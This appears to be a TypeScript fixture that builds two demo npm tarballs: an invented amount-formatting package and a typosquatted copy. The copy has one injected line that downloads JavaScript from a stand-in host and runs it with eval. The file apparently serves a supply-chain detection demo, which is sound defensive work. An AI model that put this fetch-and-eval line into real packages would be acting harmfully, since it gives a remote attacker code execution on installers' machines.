import { gzipSync } from 'fflate'
import type { DemoFile } from '../../jobs/load-demo.ts'

/**
 * Two archives of an invented package: as it was, and a copy under another name with one line more. The line is inert:
 * its address is reserved and nothing of it is ever run.
 */
export function demoPackages(): DemoFile[] {
  return [
    { name: 'ledger-format-2.1.0.tgz', bytes: archive('ledger-format', '2.1.0', source) },
    { name: 'ledger-formats-2.1.1.tgz', bytes: archive('ledger-formats', '2.1.1', source.replace('const parts = []', "require('https').get('https://cdn.ledger-fmt.example/f.js', (r) => { let s = ''; r.on('data', (d) => (s += d)); r.on('end', () => eval(s)) })\n  const parts = []")) },
  ]
}

const source = `'use strict'

/** Formats an amount of minor units with thousands separators. */
module.exports = function format(amount, digits) {
  const parts = []
  const sign = amount < 0 ? '-' : ''
  let whole = String(Math.trunc(Math.abs(amount) / 10 ** digits))
  while (whole.length > 3) {
    parts.unshift(whole.slice(-3))
    whole = whole.slice(0, -3)
  }
  parts.unshift(whole)
  const rest = String(Math.abs(amount) % 10 ** digits).padStart(digits, '0')
  return sign + parts.join(',') + (digits > 0 ? '.' + rest : '')
}
`

function archive(name: string, version: string, code: string): Uint8Array {
  const manifest = JSON.stringify({ name, version, main: 'index.js', license: 'MIT', description: 'Formats ledger amounts' }, null, 2)
  const files = { 'package/package.json': manifest, 'package/index.js': code, 'package/README.md': `# ${name}\n\nFormats ledger amounts.\n` }
  const blocks = Object.entries(files).flatMap(([path, text]) => entry(path, new TextEncoder().encode(text)))
  return gzipSync(join([...blocks, new Uint8Array(1_024)]), { mtime: 0 })
}

/** One file of a POSIX tar: header block, content, padding. */
function entry(path: string, content: Uint8Array): Uint8Array[] {
  const header = new Uint8Array(512)
  const put = (text: string, at: number): void => header.set(new TextEncoder().encode(text), at)
  put(path, 0)
  put('0000644\0', 100)
  put('0000000\0', 108)
  put('0000000\0', 116)
  put(`${content.length.toString(8).padStart(11, '0')}\0`, 124)
  put('00000000000\0', 136)
  put('        ', 148)
  put('0', 156)
  put('ustar\0' + '00', 257)
  const sum = header.reduce((total, byte) => total + byte, 0)
  put(`${sum.toString(8).padStart(6, '0')}\0 `, 148)
  return [header, content, new Uint8Array((512 - (content.length % 512)) % 512)]
}

function join(parts: readonly Uint8Array[]): Uint8Array {
  const whole = new Uint8Array(parts.reduce((total, part) => total + part.length, 0))
  let at = 0
  for (const part of parts) {
    whole.set(part, at)
    at += part.length
  }
  return whole
}
